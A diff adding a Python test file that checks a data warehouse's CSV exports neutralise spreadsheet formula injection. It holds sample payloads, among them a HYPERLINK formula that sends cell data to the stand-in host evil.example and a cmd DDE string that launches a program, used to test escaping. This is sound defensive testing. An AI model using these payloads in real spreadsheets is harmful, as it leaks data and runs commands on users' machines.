@@ -1,0 +1,56 @@
+"""CSV exports neutralise spreadsheet formula injection (OWASP CSV injection guidance)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import duckdb
+from typer.testing import CliRunner
+
+from flows.cli import app
+from warehouse.errors import CheckFailed
+from warehouse.home import Home
+from warehouse.spreadsheet import safe_cell, write_csv
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+def test_formula_triggers_are_neutralised_and_numbers_kept() -> None:
+    for text in (EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1:A9)", "\t=1", "\r=1"):
+        assert safe_cell(text) == "'" + text
+    for value in ("-3.5", "+1e3", 42, -7.25, "hotel", "a=b"):
+        assert safe_cell(value) == value
+    assert safe_cell(None) == ""
+    out = io.StringIO()
+    write_csv(out, ["member", "note"], [["IT-H01", EVIL], ["IT-H02", -1.5]])
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
+        ["member", "note"], ["IT-H01", "'" + EVIL], ["IT-H02", "-1.5"]]
+    assert out.getvalue().splitlines()[1].startswith('"IT-H01","\'=HYPERLINK')  # every field quoted
+
+
+def _results_with_member_text(con: duckdb.DuckDBPyConnection) -> None:
+    """A blocking check result whose file name and explanation carry a member's formula text."""
+    con.execute("INSERT INTO submission VALUES ('s1', 'member', ?, 'json', 'utf-8', 10, now(), 'raw/s1', 'IT-CL')",
+                [EVIL + ".json"])
+    con.execute("INSERT INTO check_run VALUES ('r1', 2025, 'all', 1, 1, 0, false, '/docs/index.html', now())")
+    con.execute("INSERT INTO check_member VALUES (2025, 'IT-H01', 'r1')")
+    con.execute("INSERT INTO check_result VALUES ('r1', 2025, 'IT-H01', 'compliance', 'compliance.permit_exceeded',"
+                " 'blocking', '@indicator', 's1', 4, '-5', '0', ?)", [f"the member wrote {EVIL}"[17:]])
+
+
+def test_check_report_csv_is_spreadsheet_safe(home: Home, con: duckdb.DuckDBPyConnection) -> None:
+    _results_with_member_text(con)
+    con.close()
+    out = home.root / "report.csv"
+    result = CliRunner().invoke(app, ["--home", str(home.root), "check", "report", "--year", "2025",
+                                      "--format", "csv", "--out", str(out)])
+    assert isinstance(result.exception, CheckFailed), result.output  # blocking failures still say so (exit 2)
+    rows = list(csv.reader(out.open(encoding="utf-8")))
+    assert rows[0] == ["member", "severity", "rule", "about", "source", "explanation"]
+    member, severity, rule, about, source, explanation = rows[1]
+    assert (member, severity, rule) == ("IT-H01", "blocking", "compliance.permit_exceeded")
+    assert about == "'@indicator"
+    assert source == "'" + EVIL + ".json row 4"
+    assert explanation == "'" + EVIL
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
